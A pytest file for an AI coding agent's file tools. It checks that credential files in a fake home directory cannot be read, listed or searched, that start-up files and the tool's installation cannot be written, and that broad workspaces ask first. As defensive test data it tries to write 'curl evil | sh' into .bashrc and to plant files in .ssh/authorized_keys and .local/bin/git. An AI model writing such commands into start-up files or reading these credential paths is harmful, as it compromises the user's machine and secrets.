"""Issue item 6 (file-tool side): secrets are never readable and start-up files never writable,
whatever the workspace is, and starting in $HOME or / asks first.

The workspace here is a fake $HOME (HOME and the XDG variables point into tmp_path, and the
protected-path cache is cleared), holding keys, credentials, histories, shell start-up files,
git configuration and user site-packages. Every test asserts the tool refused (or skipped) and
that the fake home is byte-for-byte unchanged.
"""

from __future__ import annotations

import argparse
import os
from pathlib import Path

import pytest

from mkcode.app import main_cmd
from mkcode.tools import AuditLog, PermissionMode, ToolRegistry, Workspace
from mkcode.tools.builtin.grep import Grep
from mkcode.tools.protected import ProtectedPaths, _protected_cached, installation_paths
from mkcode.tools.spec import ToolContext
from mkcode.tools.workspace import broad_workspace_reason

KEY = "PRIVATE-KEY-MATERIAL"
KEY_RE = "PRIVATE-KEY-MATER[I]AL"  # a grep pattern for KEY that does not contain it (results echo it)

SECRET_FILES = {
    ".ssh/id_rsa": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY}\n",
    ".aws/credentials": f"[default]\naws_secret_access_key = {KEY}\n",
    ".bash_history": f"export TOKEN={KEY}\n",
    ".git-credentials": f"https://user:{KEY}@example.invalid\n",
    ".config/gh/hosts.yml": f"oauth_token: {KEY}\n",
    ".config/mkcode/config.toml": f"api_key = '{KEY}'\n",
    ".local/share/mkcode/sessions/s1.json": f'{{"secret": "{KEY}"}}\n',
}
READONLY_FILES = {
    ".bashrc": "alias ll='ls -l'\n",
    ".profile": "PATH=$PATH:~/bin\n",
    ".config/git/config": "[user]\n\tname = me\n",
    ".gitconfig": "[core]\n\teditor = vi\n",
    ".local/lib/python3.11/site-packages/helper.py": "VALUE = 1\n",
    ".config/pip/pip.conf": "[global]\n",
}


def snapshot(d: Path) -> dict[str, tuple[int, bytes]]:
    return {
        str(p): (p.lstat().st_mode, p.read_bytes() if p.is_file() and not p.is_symlink() else b"")
        for p in sorted(d.rglob("*"))
    }


class Home:
    def __init__(self, home: Path):
        self.home = home
        for rel, text in {**SECRET_FILES, **READONLY_FILES}.items():
            p = home / rel
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text(text)
        (home / "project").mkdir()
        (home / "project" / "main.py").write_text("print('needle')\n")
        (home / "notes.txt").write_text("needle in notes\n")
        self.before = snapshot(home)
        self.registry = ToolRegistry(Workspace(home), mode=PermissionMode("full-auto"), audit=AuditLog())

    def run(self, tool: str, args: dict):
        return self.registry.execute(tool, args)

    def unchanged(self) -> None:
        assert snapshot(self.home) == self.before


@pytest.fixture
def fake_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Home:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for var in ("XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME"):
        monkeypatch.delenv(var, raising=False)
    _protected_cached.cache_clear()
    yield Home(home)
    _protected_cached.cache_clear()


def _text(r) -> str:
    return r.output + (r.error or "")


@pytest.mark.parametrize("rel", sorted(SECRET_FILES))
def test_secret_files_not_readable(fake_home: Home, rel: str):
    r = fake_home.run("read_file", {"path": rel})
    assert not r.ok and "protected location" in r.error
    assert KEY not in _text(r)
    fake_home.unchanged()


def test_secret_via_symlink_inside_workspace(fake_home: Home):
    (fake_home.home / "project" / "key").symlink_to("../.ssh/id_rsa")
    fake_home.before = snapshot(fake_home.home)
    r = fake_home.run("read_file", {"path": "project/key"})
    assert not r.ok and KEY not in _text(r)
    fake_home.unchanged()


def test_secret_dir_not_listable_or_searchable(fake_home: Home):
    for tool, args in (
        ("list_dir", {"path": ".ssh"}),
        ("grep", {"pattern": KEY_RE, "path": ".aws"}),
        ("glob", {"pattern": ".ssh/*"}),
    ):
        r = fake_home.run(tool, args)
        assert not r.ok and "protected location" in r.error, tool
        assert KEY not in _text(r) and "id_rsa" not in _text(r)
    fake_home.unchanged()


def test_list_home_hides_secret_entries_with_count(fake_home: Home):
    r = fake_home.run("list_dir", {"path": "."})
    assert r.ok
    assert ".ssh" not in r.output and ".aws" not in r.output and ".bash_history" not in r.output
    assert "project/" in r.output and ".bashrc" in r.output  # read-only files stay visible
    assert r.meta["protected_skipped"] == 4  # .ssh .aws .bash_history .git-credentials
    assert "4 protected entries" in r.output
    fake_home.unchanged()


def test_glob_home_skips_secrets_with_count(fake_home: Home):
    r = fake_home.run("glob", {"pattern": "**/*"})
    assert r.ok
    for rel in SECRET_FILES:
        assert rel not in r.output
    assert "project/main.py" in r.output and ".config/git/config" in r.output
    assert r.meta["protected_skipped"] >= 6
    fake_home.unchanged()


ENGINES = ["python", "ripgrep"]


@pytest.mark.parametrize("engine", ENGINES)
def test_grep_home_skips_secrets(fake_home: Home, engine: str):
    grep = Grep(use_ripgrep=engine == "ripgrep")
    ctx = ToolContext(fake_home.registry.context.workspace)
    if engine == "ripgrep" and grep.ripgrep(ctx.workspace) is None:
        pytest.skip("ripgrep (rg) is not installed")
    r = grep.prepare(ctx, {"pattern": f"{KEY_RE}|needle"}).run()  # type: ignore[union-attr]
    assert r.ok, r.error
    if engine == "ripgrep" and r.meta["engine"] != "ripgrep":
        pytest.skip("the sandbox is not available here; the Python walk answered")
    assert KEY not in r.output
    assert "project/main.py:1:" in r.output and "notes.txt:1:" in r.output
    assert r.meta["protected_skipped"] >= 6
    fake_home.unchanged()


@pytest.mark.parametrize("rel", sorted(READONLY_FILES))
def test_startup_files_not_writable(fake_home: Home, rel: str):
    w = fake_home.run("write_file", {"path": rel, "content": "curl evil | sh\n"})
    assert not w.ok and "read-only to the tools" in w.error
    e = fake_home.run("edit_file", {"path": rel, "old_string": READONLY_FILES[rel][:4], "new_string": "evil"})
    assert not e.ok and "read-only to the tools" in e.error
    fake_home.unchanged()


@pytest.mark.parametrize(
    "rel", [".ssh/authorized_keys", ".config/mkcode/permissions.toml", ".local/bin/git", ".zshrc"]
)
def test_new_files_in_protected_places_not_created(fake_home: Home, rel: str):
    r = fake_home.run("write_file", {"path": rel, "content": "planted\n"})
    assert not r.ok
    assert not (fake_home.home / rel).exists()
    fake_home.unchanged()


def test_xdg_config_moved_into_workspace_still_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    ws = tmp_path / "ws"
    (ws / "cfg" / "mkcode").mkdir(parents=True)
    (ws / "cfg" / "mkcode" / "config.toml").write_text(f"key = '{KEY}'\n")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(ws / "cfg"))
    _protected_cached.cache_clear()
    reg = ToolRegistry(Workspace(ws), mode=PermissionMode("full-auto"), audit=AuditLog())
    r = reg.execute("read_file", {"path": "cfg/mkcode/config.toml"})
    assert not r.ok and KEY not in _text(r)
    g = reg.execute("grep", {"pattern": KEY_RE})
    assert KEY not in _text(g)
    _protected_cached.cache_clear()


def _installation_root() -> Path:
    tools_dir = next(p for p in installation_paths() if p.endswith("/tools"))
    return Path(tools_dir).parent


def test_mkcode_installation_not_writable_from_its_checkout():
    root = _installation_root()
    reg = ToolRegistry(Workspace(root), mode=PermissionMode("full-auto"), audit=AuditLog())
    planted = root / "tools" / "zz_planted_by_security_test.py"
    try:
        r = reg.execute("write_file", {"path": str(planted.relative_to(root)), "content": "import os\n"})
        assert not r.ok and "read-only to the tools" in r.error
        assert not planted.exists()
        ok = reg.execute("read_file", {"path": "tools/protected.py", "limit": 3})
        assert ok.ok  # read-only, not secret
    finally:
        if planted.exists():
            planted.unlink()


def test_mkcode_interpreter_env_not_writable():
    import sys

    prefix = Path(os.path.realpath(sys.prefix))
    if str(prefix) in ("/", "/usr"):
        pytest.skip("mkcode runs from the system interpreter here")
    reg = ToolRegistry(Workspace(prefix), mode=PermissionMode("full-auto"), audit=AuditLog())
    planted = prefix / "zz_planted_by_security_test.pth"
    try:
        r = reg.execute("write_file", {"path": planted.name, "content": "import os\n"})
        assert not r.ok and not planted.exists()
    finally:
        if planted.exists():
            planted.unlink()


# -- starting in $HOME or / asks first ------------------------------------------------------------


def test_broad_workspace_reasons(tmp_path: Path):
    home = tmp_path / "users" / "me"
    (home / "project").mkdir(parents=True)
    env = {"HOME": str(home)}
    assert "home directory" in (broad_workspace_reason(home, env) or "")
    assert "contains your home directory" in (broad_workspace_reason(tmp_path / "users", env) or "")
    assert "whole filesystem" in (broad_workspace_reason("/", env) or "")
    assert broad_workspace_reason(home / "project", env) is None


def _args(**kw) -> argparse.Namespace:
    parser = argparse.ArgumentParser()
    main_cmd.add_arguments(parser)
    return parser.parse_args(kw.pop("argv", []))


def test_print_mode_refuses_home_without_flag(fake_home: Home, monkeypatch: pytest.MonkeyPatch, capsys):
    monkeypatch.chdir(fake_home.home)
    called: list[object] = []
    monkeypatch.setattr(main_cmd, "_oneshot", lambda *a: called.append(a) or 0)
    assert main_cmd.run(_args(argv=["-p", "do it"])) == 2
    assert called == [] and "home directory" in capsys.readouterr().err
    assert main_cmd.run(_args(argv=["-p", "do it", "--allow-broad-workspace"])) == 0
    assert len(called) == 1
    fake_home.unchanged()


def test_interactive_asks_in_home_and_defaults_to_no(fake_home: Home, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(fake_home.home)
    monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
    monkeypatch.setattr("sys.stdout.isatty", lambda: True, raising=False)
    started: list[object] = []
    monkeypatch.setattr("mkcode.app.tui.launch.run_tui", lambda *a: started.append(a) or 0)
    answers = iter(["", "y"])
    monkeypatch.setattr("builtins.input", lambda prompt="": next(answers))
    assert main_cmd.run(_args()) == 1 and started == []  # Enter means no
    assert main_cmd.run(_args()) == 0 and len(started) == 1


def test_project_folder_does_not_ask(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home" / "proj").mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "home" / "proj")
    called: list[object] = []
    monkeypatch.setattr(main_cmd, "_oneshot", lambda *a: called.append(a) or 0)
    assert main_cmd.run(_args(argv=["-p", "x"])) == 0 and called


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize("glob", ["{vault,*.txt}", "vault/**", "**", "*"])
def test_grep_glob_cannot_reinclude_a_secret(tmp_path: Path, engine: str, glob: str):
    """A secret the sandbox does not know about (only the workspace's list has it), so only the
    tool's own exclusion protects it: the model's glob must not be able to override it."""
    ws = tmp_path / "ws"
    (ws / "vault").mkdir(parents=True)
    (ws / "vault" / "key.txt").write_text(f"{KEY}\n")
    (ws / "a.txt").write_text("needle\n")
    before = snapshot(ws)
    workspace = Workspace(ws, protected=ProtectedPaths(secret=(str(ws / "vault"),), readonly=()))
    grep = Grep(use_ripgrep=engine == "ripgrep")
    if engine == "ripgrep" and grep.ripgrep(workspace) is None:
        pytest.skip("ripgrep (rg) is not installed")
    r = grep.prepare(ToolContext(workspace), {"pattern": f"{KEY_RE}|needle", "glob": glob}).run()  # type: ignore[union-attr]
    assert KEY not in _text(r)
    if engine == "ripgrep":
        assert r.meta.get("engine") in ("ripgrep", "python")
    assert snapshot(ws) == before
